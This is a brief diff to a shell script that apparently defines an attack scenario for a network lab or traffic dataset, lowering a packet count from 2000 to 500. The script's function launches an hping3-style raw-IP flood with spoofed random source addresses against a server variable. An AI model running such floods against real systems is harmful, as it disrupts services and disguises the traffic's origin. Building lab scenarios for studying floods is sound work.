@@ -5,7 +5,7 @@
 # target: server
 # source: attacker
 # tools: hping3
-# packets: 2000
+# packets: 500
 play() {
 	flood attacker "$SERVER_IP" --rawip -H 50 -d 64 --rand-source
 }
